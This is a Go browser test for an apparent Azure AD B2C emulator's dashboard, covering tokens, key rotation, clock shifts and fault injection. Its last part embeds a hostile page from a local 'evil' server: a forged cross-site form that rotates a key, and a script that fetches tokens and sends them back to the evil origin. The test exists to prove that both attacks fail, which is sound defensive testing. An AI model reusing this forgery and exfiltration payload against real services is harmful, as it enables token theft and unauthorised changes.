// SPDX-FileCopyrightText: 2026 The b2ckit authors
// SPDX-License-Identifier: Apache-2.0

package browser_test

import (
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// emulate starts the command as a developer does, and returns its address and
// who vouches for it.
func emulate(t *testing.T) (address string, roots *x509.CertPool) {
	t.Helper()
	ca := filepath.Join(t.TempDir(), "ca.pem")
	said := run(t, "cmd/b2ckit", "Serving; Ctrl-C stops it.", nil, "emulate", "--quiet", "--address", "127.0.0.1:0", "--ca-file", ca)
	for _, line := range said.lines {
		if value, ok := strings.CutPrefix(line, "address"); ok {
			address = strings.TrimSpace(value)
		}
	}
	text, err := os.ReadFile(ca)
	if err != nil {
		t.Fatal(err)
	}
	roots = x509.NewCertPool()
	if address == "" || !roots.AppendCertsFromPEM(text) {
		t.Fatalf("no address or certificate in:\n%s", strings.Join(said.lines, "\n"))
	}
	return address, roots
}

// TestDashboard drives a tenant from its dashboard, with JavaScript off but for
// the log.
func TestDashboard(t *testing.T) {
	address, roots := emulate(t)
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}}}
	defer client.CloseIdleConnections()
	// password asks for a user's token, as an app does.
	password := func(user, password string) (status int, token string) {
		t.Helper()
		answer, err := client.PostForm(address+"/contoso.onmicrosoft.com/B2C_1_ropc/oauth2/v2.0/token", url.Values{
			"grant_type": {"password"}, "client_id": {"e7a1c8d2-4b7f-4d0e-8a36-1f5f6c2b9d41"}, "username": {user}, "password": {password},
			"scope": {"https://contoso.onmicrosoft.com/tasks/tasks.read"},
		})
		if err != nil {
			t.Fatal(err)
		}
		defer answer.Body.Close()
		body, err := io.ReadAll(answer.Body)
		if err != nil {
			t.Fatal(err)
		}
		if _, after, ok := strings.Cut(string(body), `"access_token":"`); ok {
			token, _, _ = strings.Cut(after, `"`)
		}
		return answer.StatusCode, token
	}
	status, token := password(lin, "emulated-password")
	if status != http.StatusOK {
		t.Fatalf("got status %d for a password", status)
	}
	if status, _ := password(lin, "wrong"); status != http.StatusBadRequest {
		t.Errorf("got status %d for a wrong password", status)
	}

	c := launch(t, options{url: address, roots: roots, noJS: true})
	c.open(address)
	c.on("contoso")
	c.sees("B2C_1A_partner")
	c.sees("AADB2C90225")
	c.sees("emulated-web-secret")
	source := read(c, "source", chromedp.OuterHTML(`//html`)) // also what is folded away
	for _, secret := range []string{"emulated-password", ">wrong<", token} {
		if strings.Contains(source, secret) {
			t.Errorf("%q is on the page", secret)
		}
	}
	if !strings.Contains(source, lin) {
		t.Error("the log's parameters aren't on the page")
	}

	// A token explained.
	c.click("#1")
	c.on("Token 1")
	for _, text := range []string{"Access token of a user", "signed by UserFlowKeys", "Never the App ID URI", "tasks.read", "user Lin Example"} {
		c.sees(text)
	}
	c.click("← contoso")

	// A key taken away: the same token has no key any more.
	kid := c.find(`UserFlowKeys\s+signs for [^\n]+\s+(\S{43})`)
	c.press("Rotate, drop the old")
	if got := c.find(`UserFlowKeys\s+signs for [^\n]+\s+(\S{43})`); got == kid {
		t.Error("the key is still there")
	}
	c.set("Any token, or an Authorization header", "Bearer "+token)
	c.press("Decode")
	c.seesNot("signed by UserFlowKeys")
	c.sees("tasks.read")

	// A token minted, and the clock moved past its end.
	c.open(address)
	c.set("Lifetime", "5m")
	c.set("More claims, as JSON", `{"extension_Tier": "<b>gold</b>"}`)
	c.press("Mint")
	c.sees("<b>gold</b>")
	minted := c.value("Token")
	c.open(address)
	c.press("+5 min")
	c.press("+5 min")
	c.sees("10 min ahead")
	c.set("Any token, or an Authorization header", minted)
	c.press("Decode")
	c.sees("expired")
	c.open(address)
	c.press("Back to now")

	// Faults on and off.
	c.choose("Fault", "throttled")
	c.choose("Endpoint", "token")
	c.fill("Retry-After (throttled)", "7s")
	c.press("Add")
	c.sees("1 fault on")
	if status, _ := password(lin, "emulated-password"); status != http.StatusTooManyRequests {
		t.Errorf("got status %d with a fault, want 429", status)
	}
	c.press("Clear")
	if status, _ := password(lin, "emulated-password"); status != http.StatusOK {
		t.Errorf("got status %d after the fault, want 200", status)
	}
	c.fill("Requests", "many")
	c.press("Add")
	c.sees("Nothing was changed.")

	// What another site's page does changes nothing.
	var answers []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/seen" {
			answers = append(answers, r.URL.RawQuery)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<h1>Evil</h1><form method="post" action="%s/emulator/forms/rotate">
			<input name="container" value="UserFlowKeys"><button>Win</button></form>
			<script>fetch("%[1]s/emulator/v1/tokens").then(r => r.text(), e => "refused").then(t => fetch("/seen?" + t.length + t.slice(0, 7)))</script>`, address)
	}))
	defer evil.Close()
	kid = c.find(`UserFlowKeys\s+signs for [^\n]+\s+(\S{43})`)
	scripted := launch(t, options{url: address, roots: roots})
	scripted.open(evil.URL)
	scripted.press("Win")
	scripted.seesNot("Keys")
	c.open(address)
	if got := c.find(`UserFlowKeys\s+signs for [^\n]+\s+(\S{43})`); got != kid {
		t.Error("another site's page rotated a key")
	}

	// The log goes on by itself.
	scripted.open(address)
	scripted.on("contoso")
	password("nobody@example.org", "emulated-password")
	scripted.do("wait for the log", chromedp.WaitVisible(`(//section[@id="requests"]//tr[contains(., "AADB2C90225")])[2]`))
	scripted.keep("the log")
	evil.Close()
	if len(answers) != 1 || answers[0] != "7refused" {
		t.Errorf("a script of another site read %q", answers)
	}
}
